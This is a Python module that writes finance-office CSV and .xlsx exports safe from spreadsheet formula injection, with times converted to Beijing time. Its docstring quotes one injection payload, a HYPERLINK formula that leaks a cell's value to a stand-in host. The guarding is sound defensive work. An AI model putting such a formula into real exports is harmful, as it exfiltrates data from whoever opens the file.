"""Files a finance office opens in a spreadsheet: CSV cells no spreadsheet runs, times in the
office's zone, and .xlsx cells of the right kind. Pure: stdlib and XlsxWriter only.

CSV (issue 19, finding 4). Spreadsheet programs treat a cell that starts with `=`, `+`, `-` or
`@` as a formula (and a leading tab or carriage return can hide one), so a text value such as
an order reference `=HYPERLINK("http://x/?leak="&A1)` written as-is would run when an operator
opens the file. Every text cell of every CSV the service writes goes through `cell`: one that
starts with one of those characters gets a leading apostrophe (OWASP's rule), which a
spreadsheet shows as text and does not display. A plain decimal number (`-12.34`, `+5`) is left
as it is: it is not a formula, and the statements' negative amounts must stay numbers. The JSON
forms are exact.

Times. The finance office reads Beijing time: every time in a CSV or .xlsx file is in
Asia/Shanghai — in CSV as RFC 3339 text with its offset (`2026-03-01T08:00:00+08:00`), in .xlsx
as an Excel date-time (which has no zone, so the header says it). JSON keeps UTC.

.xlsx (XlsxWriter). A text value is written with `write_string`, never as a formula, so nothing
in a cell runs; `text` also writes the one text shape XlsxWriter would otherwise copy into the
sheet's XML unescaped (`<r>…</r>` in constant-memory mode) as a rich string of two plain parts,
which escapes it. Amounts are numbers in the unit (yuan, GPU-hours, tokens) with the unit's
number format; the figure comes from the exact integer by one correctly rounded division, so
the 15 significant digits Excel shows are the amount's own.
"""

from __future__ import annotations

import re
from datetime import date, datetime
from typing import Any
from zoneinfo import ZoneInfo

from xlsxwriter.format import Format as CellFormat
from xlsxwriter.workbook import Workbook
from xlsxwriter.worksheet import Worksheet

from services.voucher.money import MINOR_EXPONENT, Unit

TRIGGERS = frozenset("=+-@\t\r")
_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")

#: The finance office's zone (and the zone settlement periods are counted in).
TIME_ZONE = "Asia/Shanghai"
ZONE = ZoneInfo(TIME_ZONE)
#: What a header says of a column of times.
TIME_NOTE = f"({TIME_ZONE})"

XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: Rows in one worksheet (Excel's limit); a longer export continues on the next sheet.
SHEET_ROWS = 1_048_576
#: Number formats: amounts by unit (every minor digit shown), times and dates.
AMOUNT_FORMATS: dict[Unit, str] = {Unit.CNY: "#,##0.00", Unit.GPU_HOUR: "#,##0.000", Unit.TOKEN: "#,##0"}
TIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
DATE_FORMAT = "yyyy-mm-dd"
#: Column widths (characters) by what the column holds.
WIDTHS = {"id": 38, "time": 20, "date": 12, "amount": 18, "text": 16}


def cell(value: str) -> str:
    """`value` as a CSV cell no spreadsheet evaluates."""
    if value and value[0] in TRIGGERS and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def row(values: list[object] | tuple[object, ...]) -> list[object]:
    """A row with every text cell made safe (numbers and other values as they are)."""
    return [cell(v) if isinstance(v, str) else v for v in values]


def local_time(value: datetime) -> str:
    """An instant as RFC 3339 text in the office's zone, offset included."""
    return value.astimezone(ZONE).isoformat()


def wall_clock(value: datetime) -> datetime:
    """An instant as the office's wall-clock time (naive), as an Excel date-time holds it, to the
    second below: shown to the second, Excel rounds, so a capture at 23:59:59.6 on a period's last
    day read as 00:00:00 of the next (an independent review). JSON Lines and CSV keep the
    microseconds."""
    return value.astimezone(ZONE).replace(tzinfo=None, microsecond=0)


def major(amount: int, unit: Unit) -> float | int:
    """An amount in the minor unit as a number in the unit (1234567 fen → 12345.67)."""
    exponent = MINOR_EXPONENT[unit]
    return amount / 10**exponent if exponent else amount


def amount_unit(value: Any) -> Unit | None:
    try:
        return Unit(value)
    except ValueError:
        return None


#: The most characters an .xlsx cell holds (Excel's limit; XlsxWriter cuts longer text silently).
MAX_CELL_CHARACTERS = 32_767


def fit_cell(value: str) -> str:
    """`value`, or, when it is longer than a cell holds, its beginning and a note saying that it
    was cut, how long it is and where it is whole — never cut silently."""
    if len(value) <= MAX_CELL_CHARACTERS:
        return value
    note = f" …[cut: {len(value):,} characters, a cell holds {MAX_CELL_CHARACTERS:,}; the JSON Lines export holds it whole]"
    return value[: MAX_CELL_CHARACTERS - len(note)] + note


class Cells:
    """The cell formats of one workbook, and typed writes that never produce a formula."""

    def __init__(self, workbook: Workbook) -> None:
        self.header = workbook.add_format({"bold": True, "bottom": 1, "bg_color": "#F2F2F2"})
        self.bold = workbook.add_format({"bold": True})
        self.time = workbook.add_format({"num_format": TIME_FORMAT})
        self.date = workbook.add_format({"num_format": DATE_FORMAT})
        self.amount = {unit: workbook.add_format({"num_format": fmt}) for unit, fmt in AMOUNT_FORMATS.items()}
        self.total = {unit: workbook.add_format({"num_format": fmt, "bold": True, "top": 1})
                      for unit, fmt in AMOUNT_FORMATS.items()}
        self._plain = workbook.add_format()

    def text(self, sheet: Worksheet, row_: int, col: int, value: str, fmt: CellFormat | None = None) -> None:
        value = fit_cell(value)
        if value.startswith("<r>") and value.endswith("</r>"):
            parts: list[Any] = [value[:1], self._plain, value[1:]]
            sheet.write_rich_string(row_, col, *parts, *([fmt] if fmt is not None else []))
        elif value:
            sheet.write_string(row_, col, value, fmt)

    def amount_cell(self, sheet: Worksheet, row_: int, col: int, amount: int, unit: Unit | None,
                    *, total: bool = False) -> None:
        if unit is None:  # not a unit this service knows: the integer, unformatted
            sheet.write_number(row_, col, amount)
        else:
            sheet.write_number(row_, col, major(amount, unit), (self.total if total else self.amount)[unit])

    def value(self, sheet: Worksheet, row_: int, col: int, value: Any) -> None:
        """Any exported value by its type: text, number, boolean, date-time (in the office's
        zone), date; None is a blank cell."""
        if value is None:
            return
        if isinstance(value, str):
            self.text(sheet, row_, col, value)
        elif isinstance(value, bool):
            sheet.write_boolean(row_, col, value)
        elif isinstance(value, int | float):
            sheet.write_number(row_, col, value)
        elif isinstance(value, datetime):
            sheet.write_datetime(row_, col, wall_clock(value), self.time)
        elif isinstance(value, date):
            sheet.write_datetime(row_, col, datetime(value.year, value.month, value.day), self.date)
        else:  # ids and anything else: their text
            self.text(sheet, row_, col, str(value))
